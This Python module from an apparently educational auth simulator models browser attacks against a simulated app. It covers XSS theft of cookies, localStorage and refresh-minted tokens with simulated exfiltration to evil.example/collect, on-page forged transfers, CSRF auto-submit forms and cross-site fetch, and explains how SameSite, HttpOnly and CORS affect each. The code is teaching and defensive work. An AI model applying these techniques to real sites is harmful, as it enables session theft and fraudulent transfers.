"""Attacks that run in or through the victim's browser: injected script on the app's
page (XSS), and evil.example's pages posting or calling across sites (CSRF, fetch).

The browser's own rules decide what gets through: its cookie jar, SameSite, CORS.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from authflow.simulator.actions.attacker_network import csrf_page, offsite_exchange, script_reads
from authflow.simulator.actions.spec import ActionSpec, fixed
from authflow.simulator.attacker.actor import ATTACKER_ORIGIN, outcome, reasons
from authflow.simulator.browser.page_script import TOKEN_KEY, PageScript
from authflow.simulator.web.cookiejar import LeftOut
from authflow.simulator.web.cookies_out import parse_cookie_header
from authflow.simulator.world.engine import World


def _framed_paths(world: World, hidden: list[LeftOut]) -> list[str]:
    """Paths of cookies the page's own document.cookie leaves out only because of their
    Path: injected script reads those through a same-origin frame at that path (RFC 6265
    section 8.5: Path is not a security boundary; only HttpOnly keeps a cookie from script)."""
    by_path = {row.name: row.path for row in world.browser.jar.rows(world.clock.t)}
    paths: list[str] = []
    for lo in hidden:
        path = by_path.get(lo.name)
        if lo.reason.startswith("Path") and path and path not in paths:
            paths.append(path)
    return paths


def _refresh_from_page(world: World, page: PageScript) -> str | None:
    """Hybrid: the injected script POSTs /auth/refresh from the page (same origin: the
    refresh cookie rides along, HttpOnly and SameSite=Strict do not stop it) and reads
    the fresh access token from the answer. Rotation hands the browser the new refresh
    cookie, so reuse detection never fires. The fresh token, or None."""
    response = page.fetch(
        "POST",
        "/auth/refresh",
        why="The injected script calls /auth/refresh from inside the page, as the page's own "
        "code does: a same-origin request, so the browser attaches whatever refresh cookie it "
        "holds (HttpOnly only hides it from reading; SameSite=Strict allows same-site requests).",
    )
    body = None if response is None else response.body
    if response is not None and response.status == 200 and isinstance(body, dict):
        token = body.get(TOKEN_KEY)
        return token if isinstance(token, str) else None
    return None


def xss_steal(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    b = world.browser
    b.expire_cookies()
    url = b.app_origin + "/"
    doc_cookie, hidden = b.jar.script_visible_with_reasons(url, now=world.clock.t)
    stolen: dict[str, str] = dict(parse_cookie_header(doc_cookie))
    framed: list[str] = []
    at_own_path: dict[str, str] = {}
    """Why a cookie the frame at its own path still cannot read stays hidden (HttpOnly)."""
    for path in _framed_paths(world, hidden):
        seen, still = b.jar.script_visible_with_reasons(b.app_origin + path, now=world.clock.t)
        at_own_path.update((lo.name, lo.reason) for lo in still)
        found = {k: v for k, v in parse_cookie_header(seen).items() if k not in stolen}
        if found:
            stolen.update(found)
            framed.append(f"{', '.join(found)} through a same-origin frame at {path}")
    hidden = [
        LeftOut(lo.name, at_own_path.get(lo.name, lo.reason))
        if lo.reason.startswith("Path") and at_own_path.get(lo.name, "").startswith("HttpOnly")
        else lo
        for lo in hidden
        if lo.name not in stolen
    ]
    local = dict(b.local_storage.get(b.app_origin, {}))
    memory = dict(b.page.memory)
    stolen.update(local)
    stolen.update(memory)
    minted = _refresh_from_page(world, page) if world.mode == "hybrid" else None
    if minted is not None:
        stolen[TOKEN_KEY] = minted
    offsite_exchange(
        world,
        "POST",
        f"{ATTACKER_ORIGIN}/collect",
        stolen or None,
        204,
        "The injected script sends what it could read to the attacker's server. Sending data "
        "to another origin needs no permission: CORS only guards reading the answer.",
        "evil.example receives the loot.",
    )
    world.attacker.take(stolen)
    hidden_rows = [{"name": lo.name, "reason": lo.reason} for lo in hidden]
    places = []
    if doc_cookie:
        places.append(f"document.cookie ({', '.join(parse_cookie_header(doc_cookie))})")
    places.extend(framed)
    if local:
        places.append(f"localStorage ({', '.join(local)})")
    if memory:
        places.append(f"page memory ({', '.join(memory)})")
    http_only = [h["name"] for h in hidden_rows if h["reason"].startswith("HttpOnly")]
    if places:
        explain = "The injected script read " + "; ".join(places) + " and sent it to evil.example."
    else:
        explain = (
            "The injected script found no credential in document.cookie, localStorage or "
            "page memory."
        )
    if framed:
        explain += " Path is not a security boundary: only HttpOnly keeps a cookie from script."
    if minted is not None:
        explain += (
            " It also called /auth/refresh from the page and read a fresh access token from "
            "the answer: the refresh cookie's HttpOnly hides it, not its use."
        )
    if http_only:
        explain += f" HttpOnly kept {', '.join(http_only)} out of its reach."
    world.attacker.attack_event(
        "xss_steal",
        "browser",
        "XSS: stole " + (", ".join(stolen) if stolen else "nothing"),
        explain,
        attempted="read document.cookie, localStorage and page memory in the app page, "
        "and send them to evil.example",
        stolen=stolen,
        success=bool(stolen),
        document_cookie=doc_cookie,
        hidden=hidden_rows,
        framed=framed,
        minted=minted is not None,
        local_storage=local,
        memory=memory,
    )


def xss_request(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    start = len(world.recorder.events)
    body = {"amount": args["amount"], "to": args["to"]}
    response = page.fetch(
        "POST",
        "/api/transfer",
        body,
        why="The injected script calls the API from inside the app page, exactly as the page's "
        "own code does: the browser attaches whatever cookies match, and the script can use any "
        "token the page can reach.",
    )
    verdicts = world.attacker.verdicts_since(start)
    ok = response is not None and response.status == 200
    explain = (
        f"The transfer the attacker asked for went through ({outcome(response)}): nothing "
        "had to be stolen to misuse the login while the page is open."
        if ok
        else f"The on-page request was refused ({outcome(response)})."
    )
    world.attacker.attack_event(
        "xss_request",
        "browser",
        f"XSS: on-page transfer → {outcome(response)}",
        explain,
        attempted=f"from the victim's page, POST /api/transfer {body}",
        stolen={},
        success=ok,
        status=None if response is None else response.status,
        reasons=reasons(verdicts),
    )


def csrf(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    body = {"amount": args["amount"], "to": args["to"]}
    offsite_exchange(
        world,
        "GET",
        f"{ATTACKER_ORIGIN}/",
        None,
        200,
        "The victim, still logged in to app.example, opens a page on evil.example.",
        "evil.example serves a page with a hidden form that submits itself.",
        page=csrf_page(world.app_origin + "/api/transfer", body),
    )
    start = len(world.recorder.events)
    response = world.browser.send(
        "POST",
        world.app_origin + "/api/transfer",
        initiator=ATTACKER_ORIGIN,
        kind="form",
        headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body=body,
        why="evil.example's form posts to app.example/api/transfer. A form cannot add headers; "
        "the browser decides by itself which cookies ride along on this cross-site POST.",
    )
    verdicts = world.attacker.verdicts_since(start)
    ok = response is not None and response.status == 200
    explain = (
        f"The forged transfer went through ({outcome(response)}): the server saw a "
        "valid credential the browser attached by itself."
        if ok
        else f"The forged transfer was refused ({outcome(response)})."
    )
    world.attacker.attack_event(
        "csrf",
        "browser",
        f"CSRF: forged transfer → {outcome(response)}",
        explain,
        attempted=f"cross-site form POST {world.app_origin}/api/transfer "
        f"{body} from {ATTACKER_ORIGIN}",
        stolen={},
        success=ok,
        status=None if response is None else response.status,
        reasons=reasons(verdicts),
    )


def cross_site_fetch(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    kind = str(args["kind"])
    method = str(args["method"]).upper()
    if kind == "subresource":
        method = "GET"
    headers: list[tuple[str, str]] = []
    token = world.attacker.loot.get(TOKEN_KEY)
    if args["authorization"]:
        headers.append(("Authorization", f"Bearer {token or 'guessed-token'}"))
    body: Any = None
    if method == "POST":
        body = {"amount": 1000, "to": "mallory"}
        headers.insert(0, ("Content-Type", "text/plain"))
    start = len(world.recorder.events)
    what = "an <img> tag" if kind == "subresource" else "fetch(…, {credentials: 'include'})"
    # A sandboxed iframe's script has an opaque origin, which the browser sends as "null".
    origin = "null" if args["sandboxed"] else ATTACKER_ORIGIN
    if args["sandboxed"]:
        what += " from a sandboxed iframe (Origin: null)"
    response = world.browser.send(
        method,
        world.app_origin + str(args["path"]),
        initiator=origin,
        kind=kind,
        headers=headers,
        body=body,
        why=f"Script on evil.example calls app.example{args['path']} with {what}"
        f"{' and an Authorization header' if args['authorization'] else ''}; the browser "
        "applies SameSite, its third-party cookie setting and CORS.",
    )
    verdicts = world.attacker.verdicts_since(start)
    readable = False
    read: Any = None
    if response is not None and kind == "fetch":
        readable, _why, read = script_reads(world, response, origin, "evil.example")
    stolen: dict[str, str] = {}
    if readable and isinstance(read, dict) and isinstance(read.get(TOKEN_KEY), str):
        stolen[TOKEN_KEY] = read[TOKEN_KEY]
    world.attacker.take(stolen)
    status = None if response is None else response.status
    # A GET only pays off if the script can read the answer; a POST acts either way.
    ok = status == 200 and (readable or method != "GET")
    if response is None:
        explain = "The browser never sent the request: the CORS preflight was not allowed."
    elif ok and method == "GET":
        explain = f"The server answered {outcome(response)} and CORS let evil.example read it."
    elif ok:
        explain = f"The state-changing request went through ({outcome(response)})."
    else:
        explain = (
            f"The attempt failed: the server answered {outcome(response)}"
            + ("" if readable or kind != "fetch" else " and the script could not read the answer")
            + "."
        )
    world.attacker.attack_event(
        "cross_site_fetch",
        "browser",
        f"Cross-site {kind}: {outcome(response)}",
        explain,
        attempted=f"{method} {world.app_origin}{args['path']} from {ATTACKER_ORIGIN} "
        + ("(a sandboxed iframe, Origin: null) " if args["sandboxed"] else "")
        + f"as a {kind}{' with an Authorization header' if args['authorization'] else ''}",
        stolen=stolen,
        success=ok,
        status=status,
        sent=response is not None,
        readable=readable,
        read=read,
        reasons=reasons(verdicts),
    )


SPECS: tuple[ActionSpec, ...] = (
    ActionSpec(
        "xss_steal",
        {},
        "XSS: injected script reads document.cookie, localStorage and page "
        "memory and sends them to evil.example.",
        xss_steal,
        fixed("Attacker's injected script reads the page's secrets"),
        lane="attacker",
    ),
    ActionSpec(
        "xss_request",
        {"amount": (int, 1000), "to": (str, "mallory")},
        "XSS: injected script makes a transfer from the victim's own page.",
        xss_request,
        fixed("Attacker's injected script makes a transfer from the page"),
        lane="attacker",
    ),
    ActionSpec(
        "csrf",
        {"amount": (int, 1000), "to": (str, "mallory")},
        "CSRF: the victim visits evil.example, whose form auto-submits POST /api/transfer.",
        csrf,
        fixed("User visits evil.example (CSRF form)"),
        lane="attacker",
    ),
    ActionSpec(
        "cross_site_fetch",
        {
            "method": (str, "GET"),
            "path": (str, "/api/profile"),
            "authorization": (bool, False),
            "kind": (str, "fetch"),
            "sandboxed": (bool, False),
        },
        "Script on evil.example calls the app's API (fetch with credentials, optionally an "
        "Authorization header; or an <img> subresource with kind = 'subresource').",
        cross_site_fetch,
        lambda a: (
            f"evil.example's script calls {a['path']}"
            + (" with an Authorization header" if a["authorization"] else "")
            + (" (image)" if a["kind"] == "subresource" else "")
            + (" from a sandboxed iframe" if a["sandboxed"] else "")
        ),
        lane="attacker",
        choices={"kind": ("fetch", "subresource"), "method": ("GET", "POST")},
    ),
)
